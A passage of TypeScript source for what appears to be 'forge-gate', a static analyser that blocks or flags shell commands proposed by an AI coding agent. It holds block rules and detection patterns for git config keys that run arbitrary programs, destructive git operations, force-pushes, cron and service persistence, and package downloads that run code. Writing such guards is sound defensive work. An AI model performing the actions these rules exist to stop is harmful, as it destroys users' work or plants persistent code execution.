  "status log diff show blame annotate shortlog describe rev-parse rev-list ls-files ls-tree ls-remote cat-file grep whatchanged name-rev merge-base for-each-ref show-ref show-branch count-objects var verify-commit verify-tag check-ignore check-attr check-ref-format version help cherry range-diff diff-tree diff-files diff-index fsck get-tar-commit-id column instaweb-status".split(
    " ",
  ),
);
const GIT_WRITE_OK = new Set(
  "add commit fetch pull merge cherry-pick revert init am format-patch notes bisect sparse-checkout lfs submodule mergetool-status rerere archive bundle gc prune-packed repack pack-refs maintenance-run citool apply switch".split(
    " ",
  ),
);
export const DANGEROUS_GIT_CONFIG =
  /^(core\.(hookspath|fsmonitor|sshcommand|pager|editor|askpass|gitproxy|attributesfile|excludesfile|worktree)|alias\..*|filter\..*|diff\.external|diff\..*\.(textconv|command)|(diff|merge)tool\..*|(diff|merge)\.(tool|guitool)|merge\..*\.driver|credential\..*|include\.path|includeif\..*|url\..*\.insteadof|protocol\..*|uploadpack\..*|receive\..*|sequence\.editor|gpg\.(.*\.)?program|interactive\.difffilter|(web|browser|man)\..*|pager\..*|http\..*\.proxy|remote\..*\.(uploadpack|receivepack))$/i;

/**
 * Discarding uncommitted changes to named files rewrites those files, no more than `cp`/an edit
 * would: judge them as writes (inside the lease → allowed). Pathspec magic or globs
 * make the set of files unknowable statically, so those stay grey.
 */
function discardPaths(targets: Val[], a: Analysis, via: string): void {
  if (targets.length === 0 || targets.some((v) => v.glob || /^:|[*?[]/.test(v.s))) {
    a.grey("git_discard", `${via} discards uncommitted changes to those files`);
    return;
  }
  for (const t of targets) a.write(t, "rdelete", via);
}

H.git = (args, a, _io) => {
  let i = 0;
  let dir: Val | null = null;
  for (; i < args.length; i++) {
    const s = normArg(args[i]!);
    if (s === "-C") {
      dir = args[++i] ?? null;
      continue;
    }
    if (s === "-c") {
      const kv = args[++i];
      const key = kv?.s.split("=")[0] ?? "";
      if (!kv || kv.dyn || DANGEROUS_GIT_CONFIG.test(key)) {
        a.block("git_config_exec", `\`git -c ${kv ? show(kv) : ""}\` makes git run an arbitrary program`);
        return null;
      }
      continue;
    }
    if (
      s === "--git-dir" ||
      s === "--work-tree" ||
      s === "--namespace" ||
      s === "--exec-path" ||
      s === "--config-env"
    ) {
      if (s === "--exec-path" || s === "--config-env")
        a.grey("git_exec_path", `\`git ${s}\` changes what git executes`);
      i++;
      continue;
    }
    if (s.startsWith("--git-dir=") || s.startsWith("--work-tree=")) continue;
    if (s.startsWith("--exec-path=") || s.startsWith("--config-env=")) {
      a.grey("git_exec_path", `\`git ${s}\` changes what git executes`);
      continue;
    }
    if (s.startsWith("-")) continue;
    break;
  }
  const sub = args[i]?.s ?? "";
  const rest = args.slice(i + 1);
  const via = `\`git ${sub}\``;
  const cwdSave = a.cwds;
  if (dir) a.cwds = cwdSave.map((c) => (dir.dyn || c === null ? null : posix.resolve(c, dir.s)));
  const run = (): StdinSource | null => {
    if (sub === "" || GIT_READ.has(sub)) {
      if (sub === "diff" || sub === "log" || sub === "show" || sub === "format-patch") {
        const out = rest.find((v) => normArg(v).startsWith("--output="));
        if (out) a.write({ ...out, s: normArg(out).slice(9) }, "write", via);
        if (rest.some((v) => /^--ext-diff$/.test(normArg(v))))
          a.grey("git_exec", `${via} --ext-diff runs the repository's external diff program`);
      }
      return { text: null, network: false, secret: false, via };
    }
    const p = parseOpts(rest, [
      "-m",
      "--message",
      "-F",
      "--file",
      "-C",
      "-c",
      "-b",
      "-B",
      "--branch",
      "-o",
      "--origin",
      "-u",
      "--upstream",
      "--set-upstream-to",
      "-s",
      "--strategy",
      "-X",
      "--strategy-option",
      "--depth",
      "--author",
      "--date",
      "--reference",
      "--separate-git-dir",
      "--template",
      "--onto",
      "-S",
      "--gpg-sign",
      "--exec",
      "-x",
      "--output-directory",
      "--output",
      "--format",
    ]);
    const pos = p.positional.map((v) => normArg(v));
    const wholeTree = (v: string) =>
      v === "." || v === ":/" || v === "*" || v === ":" || v === "./" || v === ":/*" || v === "'*'";
    switch (sub) {
      case "reset":
        if (has(p, "--hard", "--merge", "--keep")) {
          a.block("git_destructive", "`git reset --hard` discards uncommitted work");
          return null;
        }
        break;
      case "clean":
        if (has(p, "-n", "--dry-run")) return null;
        if (has(p, "-f", "--force", "-i", "--interactive")) {
          a.block("git_destructive", "`git clean -f` deletes untracked files");
          return null;
        }
        break;
      case "push": {
        if (
          has(
            p,
            "-f",
            "--force",
            "--force-with-lease",
            "--force-if-includes",
            "--mirror",
            "-d",
            "--delete",
            "--prune",
          )
        ) {
          a.block(
            "git_destructive",
            "`git push --force`/`--delete`/`--mirror` rewrites or deletes remote history",
          );
          return null;
        }
        if (pos.some((r) => r.startsWith("+") || /^:[^/]/.test(r) || r.includes(":+"))) {
          a.block("git_destructive", "`git push +refspec`/`:ref` force-updates or deletes a remote branch");
          return null;
        }
        if (pos.some((r, k) => k > 0 && r.includes(DYN)))
          a.grey("git_dynamic", `${via} to a ref that cannot be known before it runs`);
        // An agent pushes its own branch; a push straight onto the shared branch skips review.
        const shared = pos
          .slice(1)
          .find((r) =>
            /^(main|master|trunk|develop|production|prod)$/.test(
              (r.split(":").pop() ?? "").replace(/^refs\/heads\//, ""),
            ),
          );
        if (shared !== undefined || has(p, "--all", "--branches"))
          a.grey(
            "push_shared_branch",
            `${via} ${shared ?? "--all"} pushes onto a shared branch, bypassing review`,
          );
        for (const r of pos.slice(0, 1)) a.host(r, via, true);
        a.project(via);
        return null;
      }
      case "checkout": {
        const dashdash = rest.findIndex((v) => v.s === "--");
        const paths = dashdash === -1 ? [] : rest.slice(dashdash + 1).map((v) => v.s);
        if (has(p, "-f", "--force") || pos.some(wholeTree) || paths.some(wholeTree)) {
          a.block("git_destructive", "`git checkout .`/`--force` discards uncommitted changes");
          return null;
        }
        if (paths.length > 0 || (dashdash === -1 && pos.length > 1)) {
          const targets = dashdash === -1 ? p.positional.slice(1) : rest.slice(dashdash + 1);
          discardPaths(targets, a, "`git checkout -- <paths>`");
          return null;
        }
        a.project(via);
        return null;
      }
      case "restore": {
        const staged = has(p, "-S", "--staged");
        const worktree = has(p, "-W", "--worktree") || !staged;
        if (!worktree) {
          a.project(via);
          return null;
        }
        if (pos.some(wholeTree)) {
          a.block("git_destructive", "`git restore .` discards uncommitted changes");
          return null;
        }
        discardPaths(p.positional, a, "`git restore <paths>`");
        return null;
      }
      case "branch":
        if (has(p, "-D") || (has(p, "-d", "--delete") && has(p, "-f", "--force"))) {
          a.block("git_destructive", "`git branch -D` deletes a branch with unmerged work");
          return null;
        }
        if (has(p, "-M", "-C")) a.grey("git_discard", `${via} -M/-C overwrites an existing branch`);
        // `git branch -f main HEAD~5` moves an existing branch, dropping its commits.
        else if (has(p, "-f", "--force") && pos.length > 0)
          a.grey("git_discard", `${via} -f moves an existing branch and may drop its commits`);
        break;
      case "submodule":
      case "bisect": {
        // `git submodule foreach CMD` / `git bisect run CMD` run a command (the former through a shell).
        const at = pos.indexOf(sub === "submodule" ? "foreach" : "run");
        if (at === -1) break;
        const rest = p.positional.slice(at + 1);
        if (rest.length === 0) break;
        if (sub === "submodule") {
          if (rest.some((v) => v.dyn))
            a.grey("dynamic_eval", `${via} foreach runs a command that cannot be known`);
          else a.nested(rest.map((v) => v.s).join(" "), `${via} foreach`);
          a.fx.readOnly = false;
          return null;
        }
        return runCommand(rest, a, null, false);
      }
      case "stash": {
        const action = pos[0] ?? "push";
        if (action === "drop" || action === "clear") {
          a.block("git_destructive", `\`git stash ${action}\` deletes stashed work`);
          return null;
        }
        if (action === "list" || action === "show") return { text: null, network: false, secret: false, via };
        break;
      }
      case "reflog":
        if (pos[0] === "expire" || pos[0] === "delete") {
          a.block("git_destructive", `\`git reflog ${pos[0]}\` destroys the recovery log`);
          return null;
        }
        return { text: null, network: false, secret: false, via };
      case "update-ref":
        if (has(p, "-d")) {
          a.block("git_destructive", "`git update-ref -d` deletes a ref");
          return null;
        }
        a.grey("git_plumbing", `${via} rewrites refs directly`);
        return null;
      case "filter-branch":
      case "filter-repo":
        a.block("git_destructive", `${via} rewrites the whole history`);
        return null;
      case "tag":
        if (has(p, "-d", "--delete")) {
          a.grey("git_discard", "`git tag -d` deletes a tag");
          return null;
        }
        if (pos.length === 0 || has(p, "-l", "--list", "-n", "--contains", "--points-at", "--merged"))
          return { text: null, network: false, secret: false, via };
        break;
      case "remote":
        if (pos.length === 0 || pos[0] === "-v" || pos[0] === "show" || pos[0] === "get-url")
          return { text: null, network: false, secret: false, via };
        if ((pos[0] === "add" || pos[0] === "set-url") && p.positional[2])
          a.host(p.positional[2].s, via, false);
        if (
          pos[0] === "add" ||
          pos[0] === "set-url" ||
          pos[0] === "rename" ||
          pos[0] === "update" ||
          pos[0] === "prune" ||
          pos[0] === "set-head"
        )
          break;
        a.grey("git_remote", `${via} ${pos[0]} changes the repository's remotes`);
        return null;
      case "config": {
        if (has(p, "--global", "--system", "--file", "-f")) {
          if (has(p, "--get", "--get-all", "--get-regexp", "-l", "--list", "--show-origin")) return null;
          a.grey(
            "git_config_global",
            `${via} --global/--system changes configuration outside the repository`,
          );
          return null;
        }
        if (
          has(
            p,
            "--get",
            "--get-all",
            "--get-regexp",
            "-l",
            "--list",
            "--show-origin",
            "--show-scope",
            "--get-urlmatch",
          ) ||
          pos.length <= 1
        )
          return null;
        const key = pos[0] === "set" || pos[0] === "unset" ? (pos[1] ?? "") : (pos[0] ?? "");
        if (DANGEROUS_GIT_CONFIG.test(key) || key.includes(DYN)) {
          a.block("persistence", `\`git config ${key}\` makes git run an arbitrary program later`);
          return null;
        }
        a.project(via);
        return null;
      }
      case "clone": {
        const url = p.positional[0];
        if (url) a.host(url.s, via, false);
        const dest =
          p.positional[1] ??
          (url ? lit(posix.basename(url.s.replace(/\/+$/, "")).replace(/\.git$/, "")) : null);
        if (dest) a.write(dest, "write", via);
        return null;
      }
      case "mv":
        for (const v of p.positional) a.write(v, "write", via);
        return null;
      case "rm": {
        if (has(p, "--cached")) {
          a.project(via);
          return null;
        }
        const recursive = has(p, "-r");
        for (const v of p.positional) a.write(v, recursive ? "rdelete" : "delete", via);
        return null;
      }
      case "worktree": {
        const action = pos[0];
        if (action === "list") return null;
        if (action === "add" && p.positional[1]) {
          a.write(p.positional[1], "write", via);
          return null;
        }
        if (action === "remove") {
          if (has(p, "-f", "--force")) {
            a.block(
              "git_destructive",
              "`git worktree remove --force` deletes a worktree with uncommitted changes",
            );
            return null;
          }
          if (p.positional[1]) a.write(p.positional[1], "rdelete", via);
          return null;
        }
        if (
          action === "prune" ||
          action === "lock" ||
          action === "unlock" ||
          action === "move" ||
          action === "repair"
        )
          break;
        a.grey("git_unknown", `${via} ${action ?? ""}`);
        return null;
      }
      case "rebase":
        if (has(p, "-i", "--interactive", "--exec", "-x")) {
          a.grey("git_interactive", "`git rebase -i/--exec` needs an editor or runs commands");
          return null;
        }
        break;
      case "commit":
      case "merge":
      case "cherry-pick":
      case "revert":
      case "am":
        if (has(p, "--no-verify", "-n") && sub === "commit") {
          /* skipping hooks is allowed; it only means less checking */
        }
        break;
      default:
        if (!GIT_WRITE_OK.has(sub)) {
          a.grey(
            "git_unknown",
            `\`git ${sub}\` is not a git command forge-gate knows (aliases can run anything)`,
          );
          return null;
        }
    }
    if (sub === "fetch" || sub === "pull") for (const r of pos.slice(0, 1)) a.host(r, via, false);
    if (sub === "format-patch") {
      const out = optValue(p, "-o", "--output-directory");
      if (out) a.write(out, "write", via);
    }
    if (sub === "archive") {
      const out = optValue(p, "-o", "--output");
      if (out) a.write(out, "write", via);
    }
    if (sub === "bundle" && pos[0] === "create" && p.positional[1]) a.write(p.positional[1], "write", via);
    if (sub === "submodule" && pos[0] === "add" && pos[1]) a.host(pos[1], via, false);
    // A template directory is copied into .git, hooks included.
    if (has(p, "--template"))
      a.grey("git_hooks", `${via} --template installs files (hooks) from another directory`);
    a.project(via);
    return null;
  };
  const out = run();
  if (dir) a.cwds = cwdSave;
  return out;
};

// --- package managers and language toolchains --------------------------------------------------

const NPX_SAFE = new Set(
  (
    "tsc typescript vitest jest eslint prettier @biomejs/biome biome tsx ts-node mocha playwright @playwright/test cypress " +
    "vite webpack rollup esbuild next nuxt astro svelte-kit turbo nx lerna tsup prisma drizzle-kit knip depcheck madge " +
    "typedoc jsdoc c8 nyc ava tap stylelint markdownlint markdownlint-cli2 husky lint-staged concurrently nodemon " +
    "create-react-app create-vite create-next-app degit http-server serve ncu npm-check-updates semantic-release changeset " +
    "@changesets/cli tailwindcss postcss sass babel @babel/cli swc @swc/cli terser uglify-js rimraf mkdirp cross-env " +
    "vue-tsc svelte-check @angular/cli ng storybook wrangler vercel netlify-cli firebase-tools openapi-typescript " +
    "graphql-codegen @graphql-codegen/cli orval ts-prune license-checker size-limit publint attw @arethetypeswrong/cli"
  ).split(/\s+/),
);

/** Packages that set up the environment and then run the command they are given. */
const ENV_RUNNERS = new Set(["cross-env", "cross-env-shell", "dotenv", "dotenv-cli", "env-cmd"]);

/** `cross-env A=1 cmd …`, `dotenv -e .env -- cmd …`: the command is what runs. */
function envRunner(args: Val[], a: Analysis, io: Io): StdinSource | null {
  a.fx.readOnly = false;
  let i = 0;
  while (i < args.length) {
    const s = args[i]!.s;
    if (s === "--") {
      i++;
      break;
    }
    if (/^-(e|c|f|v|-env|-file|-environments)$/.test(s)) i += 2;
    else if (s.startsWith("-") || /^[A-Za-z_][A-Za-z0-9_]*=/.test(s)) i++;
    else break;
  }
  const rest = args.slice(i);
  if (rest.length === 0) return null;
  // cross-env-shell hands its command to a shell.
  if (io.name === "cross-env-shell" || rest.length === 1) {
    if (rest.some((v) => v.dyn))
      a.grey("dynamic_command", "the wrapped command cannot be known before it runs");
    else a.nested(rest.map((v) => v.s).join(" "), "the wrapped command");
    return null;
  }
  return runCommand(rest, a, io.stdin, io.piped);
}
H["cross-env"] = envRunner;
H["cross-env-shell"] = (args, a, io) => envRunner(args, a, { ...io, name: "cross-env-shell" });
H["env-cmd"] = envRunner;

/** TypeScript runners that also take inline code (`tsx -e`, `ts-node -p`). */
const INLINE_RUNNERS = new Set(["tsx", "ts-node", "ts-node-esm"]);

/** True when it handled inline code given to a TypeScript runner. */
function inlineRunner(name: string, args: Val[], a: Analysis): boolean {
  const at = args.findIndex((v) => /^(-e|--eval|-p|--print)$/.test(normArg(v)));
  if (at === -1) return false;
  inlineCode(args[at + 1] ?? dyn(), a, `\`${name}\` ${normArg(args[at]!)}`);
  return true;
}

function npx(args: Val[], a: Analysis, io: Io): StdinSource | null {
  const p = parseOpts(args, ["-p", "--package", "-c", "--call", "--node-options"], true);
  const call = optValue(p, "-c", "--call");
  if (call) {
    if (call.dyn) a.grey("dynamic_command", "`npx -c` runs a command that cannot be known");
    else a.nested(call.s, "`npx -c`");
    return null;
  }
  const pkg = p.positional[0];
  if (!pkg || pkg.dyn) {
    a.grey("npx_unknown", `\`${io.name}\` runs a package that cannot be known before it runs`);
    return null;
  }
  const bare = pkg.s.replace(/@[^@/]*$/, "") || pkg.s;
  if (bare === "rimraf") {
    for (const f of p.positional.slice(1)) if (!f.s.startsWith("-")) a.write(f, "rdelete", "`rimraf`");
    return null;
  }
  if (bare === "mkdirp") {
    for (const f of p.positional.slice(1)) if (!f.s.startsWith("-")) a.write(f, "write", "`mkdirp`");
    return null;
  }
  if (ENV_RUNNERS.has(bare)) return envRunner(p.positional.slice(1), a, io);
  if (NPX_SAFE.has(bare) || NPX_SAFE.has(pkg.s)) {
    if (INLINE_RUNNERS.has(bare) && inlineRunner(bare, p.positional.slice(1), a)) return null;
    a.project(`\`${io.name} ${bare}\``);
    return null;
  }
  a.grey("npx_unknown", `\`${io.name} ${show(pkg)}\` downloads and runs a package forge-gate does not know`);
  return null;
}
H.npx = npx;
H.pnpx = npx;
H.bunx = npx;

function nodePackageManager(args: Val[], a: Analysis, io: Io): StdinSource | null {
  const p = parseOpts(
    args,
    [
      "--prefix",
      "-C",
      "--dir",
      "--filter",
      "-F",
      "-w",
      "--workspace",
      "--cwd",
      "--registry",
      "--cache",
      "--userconfig",
      "--loglevel",
    ],
    true,
  );
  const sub = p.positional[0]?.s ?? (io.name === "yarn" ? "install" : "");
  const rest = p.positional.slice(1);
  // Options may follow the subcommand too (`npm install --prefix ~ x`).
  const restOpts = parseOpts(rest, ["--prefix", "-C", "--dir", "--cwd"]);
  const via = `\`${io.name} ${sub}\``;
  const global =
    has(p, "-g", "--global", "--location") ||
    has(restOpts, "-g", "--global", "--location") ||
    rest.some((v) => v.s === "global") ||
    sub === "global";
  const prefix =
    optValue(p, "--prefix", "-C", "--dir", "--cwd") ?? optValue(restOpts, "--prefix", "-C", "--dir", "--cwd");
  const READ =
    /^(ls|list|ll|la|outdated|view|info|show|v|search|s|find|explain|why|help|doctor|prefix|root|bin|fund|query|audit|licenses|version-check|whoami|ping|config-get|owner-ls|completion|docs|home|repo|bugs|-v|--version|-h|--help)$/;
  if (READ.test(sub) && !(sub === "audit" && rest.some((v) => v.s === "fix"))) return null;
  if (sub === "config" || sub === "c") {
    const action = rest[0]?.s;
    if (action === "get" || action === "list" || action === "ls") return null;
    a.grey("package_config", `${via} changes package-manager configuration outside the project`);
    return null;
  }
  if (
    /^(publish|unpublish|deprecate|dist-tag|owner|access|adduser|login|logout|token|team|org|hook|star|unstar|npm)$/.test(
      sub,
    )
  ) {
    a.grey("package_publish", `${via} changes the package registry`);
    return null;
  }
  if (global) {
    a.grey("install_global", `${via} -g installs outside the project`);
    return null;
  }
  if (sub === "exec" || sub === "x" || sub === "dlx") return npx(rest, a, io);
  for (const v of rest)
    if (/^(https?|git\+\w+|git):\/\//.test(v.s)) a.host(v.s.replace(/^git\+/, ""), via, false);
  if (sub === "cache" || sub === "store") {
    if (rest[0]?.s === "clean" || rest[0]?.s === "prune") a.fx.readOnly = false;
    return null;
  }
  a.project(via, prefix ?? undefined);
  return null;
}
H.npm = nodePackageManager;
H.pnpm = nodePackageManager;
H.yarn = nodePackageManager;
H.corepack = (args, a) => {
  if (args[0]?.s === "enable" || args[0]?.s === "disable" || args[0]?.s === "install")
    a.grey("install_global", "`corepack` changes global shims");
  else a.project("`corepack`");
  return null;
};

/**
 * `uv run CMD`, `poetry run CMD`, `conda run -n env CMD`: the environment is the project's, the
 * command is anything at all, so it is analysed like a command of its own. A bare `x.py` is Python.
 */
function projectRunner(args: Val[], a: Analysis, io: Io): StdinSource | null {
  const p = parseOpts(
    args,
    [
      "--with",
      "--with-requirements",
      "--python",
      "-p",
      "--directory",
      "--project",
      "--extra",
      "--group",
      "--env-file",
      "--package",
      "--index",
      "-n",
      "--name",
      "--prefix",
      "-e",
      "--env",
    ],
    true,
  );
  const rest = p.positional;
  if (rest.length === 0) return null;
  const head = rest[0]!;
  if (!head.dyn && /\.py$/.test(head.s) && !head.s.includes("/"))
    return runCommand([{ ...head, s: "python" }, ...rest], a, io.stdin, io.piped);
  return runCommand(rest, a, io.stdin, io.piped);
}

function pythonPackageManager(args: Val[], a: Analysis, io: Io): StdinSource | null {
  const p = parseOpts(args, [
    "-t",
    "--target",
    "--prefix",
    "--root",
    "-r",
    "--requirement",
    "-c",
    "--constraint",
    "-i",
    "--index-url",
    "--extra-index-url",
    "-e",
    "--editable",
    "-d",
    "--dest",
    "--python",
    "-p",
    "--directory",
    "--project",
  ]);
  const sub = p.positional[0]?.s ?? "";
  const via = `\`${io.name} ${sub}\``;
  if (
    /^(list|show|freeze|check|search|help|config-list|debug|inspect|index|tree|version|--version)$/.test(sub)
  )
    return null;
  if (
    io.name === "uv" ||
    io.name === "poetry" ||
    io.name === "pipenv" ||
    io.name === "pdm" ||
    io.name === "rye" ||
    io.name === "hatch"
  ) {
    if (sub === "pip")
      return pythonPackageManager(args.slice(args.findIndex((v) => v.s === "pip") + 1), a, {
        ...io,
        name: "pip",
      });
    if (
      sub === "tool" ||
      sub === "self" ||
      (io.name === "uv" && sub === "python" && p.positional[1]?.s === "install")
    ) {
      if (p.positional[1]?.s === "run" || p.positional[1]?.s === "list") {
        a.project(via);
        return null;
      }
      a.grey("install_global", `${via} installs tools outside the project`);
      return null;
    }
    if (sub === "publish") {
      a.grey("package_publish", `${via} publishes to a registry`);
      return null;
    }
    a.project(via, optValue(p, "--directory", "--project") ?? undefined);
    if (sub === "run") return projectRunner(args.slice(args.findIndex((v) => v.s === "run") + 1), a, io);
    return null;
  }
  for (const v of p.positional)
    if (/^(git\+)?(https?|ssh|git):\/\//.test(v.s)) a.host(v.s.replace(/^git\+/, ""), via, false);
  if (sub === "install" || sub === "download" || sub === "wheel") {
    if (has(p, "--user", "--break-system-packages", "--root", "--prefix")) {
      a.grey("install_global", `${via} installs outside the project`);
      return null;
    }
    const target = optValue(p, "-t", "--target", "-d", "--dest");
    if (target) a.write(target, "write", via);
    a.project(via);
    return null;
  }
  if (sub === "uninstall") {
    a.grey("package_remove", `${via} removes packages from the environment`);
    return null;
  }
  a.grey("unknown_command", `${via} is not a subcommand forge-gate knows`);
  return null;
}
for (const n of [
  "pip",
  "pip3",
  "uv",
  "poetry",
  "pipenv",
  "pdm",
  "rye",
  "hatch",
  "conda",
  "mamba",
  "micromamba",
  "pipx",
])
  H[n] = pythonPackageManager;
H.pipx = (args, a) => {
  if (args[0]?.s === "run") a.grey("npx_unknown", "`pipx run` downloads and runs a package");
  else if (args[0]?.s === "list") return null;
  else a.grey("install_global", "`pipx` installs tools outside the project");
  return null;
};
H.conda = (args, a, io) => {
  const sub = args[0]?.s ?? "";
  if (/^(list|info|search|env-list)$/.test(sub) || (sub === "env" && args[1]?.s === "list")) return null;
  if (sub === "run" || sub === "activate" || sub === "deactivate") {
    a.project("`conda`");
    if (sub === "run") return projectRunner(args.slice(1), a, io);
    return null;
  }
  a.grey("install_global", `\`conda ${sub}\` changes environments outside the project`);
  return null;
};
H.mamba = H.conda;
H.micromamba = H.conda;

H.cargo = (args, a) => {
  const p = parseOpts(args, [
    "--manifest-path",
    "-p",
    "--package",
    "--target-dir",
    "-Z",
    "--config",
    "-C",
    "--color",
    "-j",
    "--jobs",
    "--features",
    "-F",
    "--target",
    "--bin",
    "--example",
    "--test",
    "--bench",
    "--profile",
  ]);
  const sub = p.positional[0]?.s ?? "";
  const via = `\`cargo ${sub}\``;
  if (/^(install|uninstall|publish|login|logout|owner|yank)$/.test(sub)) {
    a.grey(
      sub === "publish" || sub === "yank" || sub === "owner" ? "package_publish" : "install_global",
      `${via} acts outside the project`,
    );
    return null;
  }
  const target = optValue(p, "--target-dir");
  if (target) a.write(target, "write", via);
  if (sub === "new" || sub === "init") {
    if (p.positional[1]) a.write(p.positional[1], "write", via);
    else a.project(via);
    return null;
  }
  // The build runs (build.rs, proc macros) in the manifest's package, wherever that is.
  const manifest = optValue(p, "--manifest-path");
  const dir = optValue(p, "-C") ?? (manifest ? { ...manifest, s: posix.dirname(manifest.s) } : null);
  a.project(via, dir ?? undefined);
  return null;
};
H.rustup = (args, a) => {
  if (/^(show|which|--version|-V|check|doc)$/.test(args[0]?.s ?? "")) return null;
  a.grey("install_global", "`rustup` changes the toolchain installation");
  return null;
};

H.go = (args, a) => {
  const sub = args[0]?.s ?? "";
  const via = `\`go ${sub}\``;
  if (/^(version|env|list|doc|help)$/.test(sub) && !(sub === "env" && args.some((v) => v.s === "-w")))
    return null;
  if (sub === "env") {
    a.grey("package_config", "`go env -w` changes the global go configuration");
    return null;
  }
  if (sub === "install") {
    a.grey("install_global", "`go install` installs binaries outside the project");
    return null;
  }
  const p = parseOpts(args.slice(1), [
    "-o",
    "-C",
    "-ldflags",
    "-gcflags",
    "-tags",
    "-run",
    "-bench",
    "-count",
    "-timeout",
    "-p",
    "-exec",
    "-toolexec",
    "-mod",
    "-coverprofile",
    "-cpuprofile",
    "-memprofile",
    "-modfile",
    "-overlay",
    "-pkgdir",
  ]);
  if (has(p, "-exec", "-toolexec")) a.grey("inline_code", `${via} -exec runs another program`);
  // `go run example.com/tool@v1` downloads a module and runs it, like `npx pkg`.
  if (sub === "run" && p.positional.some((v) => /@|^[\w-]+\.[\w.-]+\//.test(v.s) && !/^\.{0,2}\//.test(v.s)))
    a.grey("npx_unknown", `${via} downloads a remote module and runs it`);
  const out = optValue(p, "-o", "-coverprofile", "-cpuprofile", "-memprofile");
  if (out) a.write(out, "write", via);
  a.project(via, optValue(p, "-C") ?? undefined);
  return null;
};

H.make = (args, a) => {
  const p = parseOpts(args, [
    "-C",
    "--directory",
    "-f",
    "--file",
    "--makefile",
    "-j",
    "--jobs",
    "-l",
    "-o",
    "-W",
    "-I",
    "--eval",
    "-E",
  ]);
  if (p.positional.some((v) => v.s === "install" || v.s === "uninstall")) {
    a.grey("install_global", "`make install` usually writes outside the project");
    return null;
  }
  if (has(p, "--eval", "-E")) a.grey("inline_code", "`make --eval` runs extra make code");
  if (has(p, "-n", "--dry-run", "--just-print", "-q", "--question", "-p", "--print-data-base")) return null;
  a.project("`make`", optValue(p, "-C", "--directory") ?? undefined);
  return null;
};
H.gmake = H.make;

H.bundle = (args, a) => {
  const sub = args[0]?.s ?? "install";
  if (sub === "exec") return args[1] ? runCommand(args.slice(1), a, null, false) : null;
  if (/^(list|show|info|outdated|check|config-get|version|-v|--version)$/.test(sub)) return null;
  a.project(`\`bundle ${sub}\``);
  return null;
};
H.gem = (args, a) => {
  const sub = args[0]?.s ?? "";
  if (/^(list|search|info|query|env|help|contents|dependency|which|specification)$/.test(sub)) return null;
  if (sub === "build") {
    a.project("`gem build`");
    return null;
  }
  a.grey(
    sub === "push" || sub === "yank" ? "package_publish" : "install_global",
    `\`gem ${sub}\` acts outside the project`,
  );
  return null;
};
H.composer = (args, a) => {
  const sub = args[0]?.s ?? "";
  if (
    /^(show|info|outdated|licenses|validate|diagnose|depends|why|why-not|search|check-platform-reqs|about|list|help)$/.test(
      sub,
    )
  )
    return null;
  if (sub === "global") {
    a.grey("install_global", "`composer global` installs outside the project");
    return null;
  }
  a.project(`\`composer ${sub}\``);
  return null;
};
H.dotnet = (args, a) => {
  const sub = args[0]?.s ?? "";
  if (sub === "tool" && args.some((v) => v.s === "-g" || v.s === "--global")) {
    a.grey("install_global", "`dotnet tool -g` installs outside the project");
    return null;
  }
  if (sub === "nuget" && args[1]?.s === "push") {
    a.grey("package_publish", "`dotnet nuget push` publishes a package");
    return null;
  }
  if (/^(--info|--version|--list-sdks|--list-runtimes|list|sln-list)$/.test(sub)) return null;
  a.project(`\`dotnet ${sub}\``);
  return null;
};
H.swift = (args, a) => {
  a.project(`\`swift ${args[0]?.s ?? ""}\``);
  return null;
};

// --- system package managers and version managers: queries only ---

H.apt = (args, a, io) => {
  const sub = args.find((v) => !v.s.startsWith("-"))?.s ?? "";
  if (
    /^(list|show|search|policy|depends|rdepends|madison|showpkg|changelog)$/.test(sub) ||
    io.name === "apt-cache"
  )
    return null;
  a.grey("install_global", `\`${io.name} ${sub}\` changes system packages`);
  return null;
};
H["apt-get"] = H.apt;
H["apt-cache"] = H.apt;
H.dpkg = (args, a) => {
  if (
    args.some((v) =>
      /^(-l|-L|-s|-S|-p|--list|--listfiles|--status|--search|--print-architecture|-W|--show)$/.test(v.s),
    )
  )
    return null;
  a.grey("install_global", "`dpkg` changes system packages");
  return null;
};
H.brew = (args, a) => {
  const sub = args[0]?.s ?? "";
  if (
    /^(list|ls|info|search|--prefix|--cellar|--version|config|deps|uses|outdated|leaves|doctor|desc|home|log)$/.test(
      sub,
    )
  )
    return null;
  a.grey("install_global", `\`brew ${sub}\` changes installed software`);
  return null;
};
function versionManager(args: Val[], a: Analysis, io: Io): null {
  const sub = args[0]?.s ?? "";
  if (/^(use|ls|list|current|which|version|versions|ls-remote|local|shell|root|prefix|exec|run)$/.test(sub)) {
    if (sub === "local") a.project(`\`${io.name} local\``);
    return null;
  }
  a.grey("install_global", `\`${io.name} ${sub}\` installs or changes toolchains outside the project`);
  return null;
}
for (const n of ["nvm", "fnm", "volta", "pyenv", "rbenv", "asdf", "mise", "sdk", "goenv", "nodenv"])
  H[n] = versionManager;

// --- services, schedulers, system ---------------------------------------------------------------

H.crontab = (args, a) => {
  const p = parseOpts(args, ["-u"]);
  if (has(p, "-l")) return null;
  if (has(p, "-r")) {
    a.block("persistence", "`crontab -r` deletes the user's scheduled jobs");
    return null;
  }
  a.block("persistence", "`crontab` installs scheduled jobs (persistence)");
  return null;
};
H.at = (_args, a) => {
  a.block("persistence", "`at` schedules a command to run later (persistence)");
  return null;
};
H.batch = H.at;
H.systemctl = (args, a) => {
  const p = parseOpts(args, [
    "-t",
    "--type",
    "--state",
    "-p",
    "--property",
    "-H",
    "--host",
    "-M",
    "-n",
    "--lines",
    "-o",
    "--output",
  ]);
  const sub = p.positional[0]?.s ?? "list-units";
  if (
    /^(status|show|cat|is-active|is-enabled|is-failed|list-units|list-unit-files|list-timers|list-sockets|list-dependencies|help|show-environment|get-default)$/.test(
      sub,
    )
  )
    return null;
  if (
    /^(enable|link|set-default|add-wants|add-requires|edit|preset|reenable|import-environment|set-environment)$/.test(
      sub,
    )
  ) {
    a.block("persistence", `\`systemctl ${sub}\` installs a service that outlives the session`);
    return null;
  }
  if (/^(poweroff|reboot|halt|suspend|hibernate|kexec|emergency|rescue|isolate|default)$/.test(sub)) {
    a.block("system_power", `\`systemctl ${sub}\` changes the machine's power state`);
    return null;
  }
  a.grey("service_control", `\`systemctl ${sub}\` starts, stops or changes services`);
  return null;
};
H.launchctl = (args, a) => {
  const sub = args[0]?.s ?? "";
  if (/^(list|print|print-disabled|blame|help|version)$/.test(sub)) return null;
  a.block("persistence", `\`launchctl ${sub}\` installs or changes a launch agent`);
  return null;
};
H.service = (_args, a) => {
  a.grey("service_control", "`service` starts, stops or changes system services");
  return null;
};
H.init = (args, a) => {
  if (args[0]?.s === "0" || args[0]?.s === "6")
